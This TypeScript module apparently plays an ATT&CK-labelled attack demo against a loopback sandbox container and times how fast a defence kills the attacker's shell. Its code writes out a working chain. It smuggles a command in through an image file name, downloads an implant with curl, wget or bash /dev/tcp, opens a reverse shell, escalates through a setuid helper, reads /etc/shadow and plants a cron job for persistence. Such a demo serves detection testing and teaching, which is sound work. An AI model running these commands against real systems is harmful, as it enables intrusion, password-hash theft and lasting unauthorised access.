import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { setTimeout as sleep } from 'node:timers/promises';
import { Attacker } from './attacker.ts';
import { DemoError } from './errors.ts';
import { Sandbox } from './sandbox.ts';

export interface Step {
  /** ATT&CK tactic. */
  readonly tactic: string;
  readonly text: string;
}

export interface DemoOutcome {
  /** Id of the sandbox's container. */
  readonly container: string;
  /** Time of the last command, ms since the epoch. */
  readonly lastStepAt: number;
  /** Milliseconds from the last command until the attacker lost the shell; null: not within `waitMs`. */
  readonly stoppedAfterMs: number | null;
}

export interface ScenarioOptions {
  readonly containersDir: string;
  readonly filesDir: string;
  readonly onStep: (step: Step) => void;
  /** Pause between steps, ms. @default 250 */
  readonly pauseMs?: number;
  /** How long to wait for the response after the last step, ms. @default 5000 */
  readonly waitMs?: number;
  readonly signal?: AbortSignal;
}

/** Plays the attack in a new sandbox, on loopback, and removes the sandbox again. Needs root. */
export async function playDemo(options: ScenarioOptions): Promise<DemoOutcome> {
  await using attacker = await Attacker.listen();
  await using sandbox = new Sandbox({
    id: randomBytes(4).toString('hex'),
    containersDir: options.containersDir,
    filesDir: options.filesDir,
  });
  await sandbox.start();
  const { onStep, signal } = options;
  const pause = (): Promise<void> => sleep(options.pauseMs ?? 250, undefined, signal === undefined ? {} : { signal });
  await pause();

  onStep({ tactic: 'initial-access', text: 'a picture is called "x.png; id": the web server runs it in a shell' });
  sandbox.request('x.png; id; uname -a');
  await pause();

  onStep({ tactic: 'command-and-control', text: 'the shell fetches an implant into /tmp and runs it' });
  sandbox.request(`x.png; ${downloadCommand(attacker.port)}; chmod +x /tmp/.x; ${connectBackCommand(attacker.port)}`);
  const shell = await attacker.waitForShell(10_000);

  onStep({ tactic: 'execution', text: 'the implant connects back: the attacker has a shell' });
  attacker.send('id');
  await pause();

  onStep({ tactic: 'privilege-escalation', text: 'a helper with a forgotten set-user-id bit makes the shell root' });
  attacker.send('exec /opt/shop/backup-helper -p');
  await pause();

  onStep({ tactic: 'credential-access', text: 'root reads the password hashes' });
  attacker.send('cat /etc/shadow');
  await pause();

  onStep({ tactic: 'persistence', text: 'root plants a cron job to come back' });
  const lastStepAt = Date.now();
  const started = performance.now();
  attacker.send("echo '* * * * * root /tmp/.x' > /etc/cron.d/update; while :; do read -t 1 line; done");
  const stopped = await closedWithin(shell, options.waitMs ?? 5000, signal);
  return { container: sandbox.name, lastStepAt, stoppedAfterMs: stopped ? performance.now() - started : null };
}

/** Uses curl or wget if installed, else /dev/tcp of bash. */
function downloadCommand(port: number): string {
  const url = `http://127.0.0.1:${port}/implant`;
  if (existsSync('/usr/bin/curl')) return `curl -s -o /tmp/.x ${url}`;
  if (existsSync('/usr/bin/wget')) return `wget -q -O /tmp/.x ${url}`;
  return `bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port}; echo "GET raw" >&3; cat <&3 >/tmp/.x'`;
}

function connectBackCommand(port: number): string {
  return `/tmp/.x -c "exec 5<>/dev/tcp/127.0.0.1/${port}; exec bash <&5 >&5 2>&5" &`;
}

async function closedWithin(
  socket: NodeJS.EventEmitter & { destroyed: boolean },
  ms: number,
  signal?: AbortSignal,
): Promise<boolean> {
  if (socket.destroyed) return true;
  try {
    await once(socket, 'close', {
      signal: signal === undefined ? AbortSignal.timeout(ms) : AbortSignal.any([signal, AbortSignal.timeout(ms)]),
    });
    return true;
  } catch (error) {
    if (signal?.aborted) throw new DemoError('stopped', { cause: error });
    return false;
  }
}
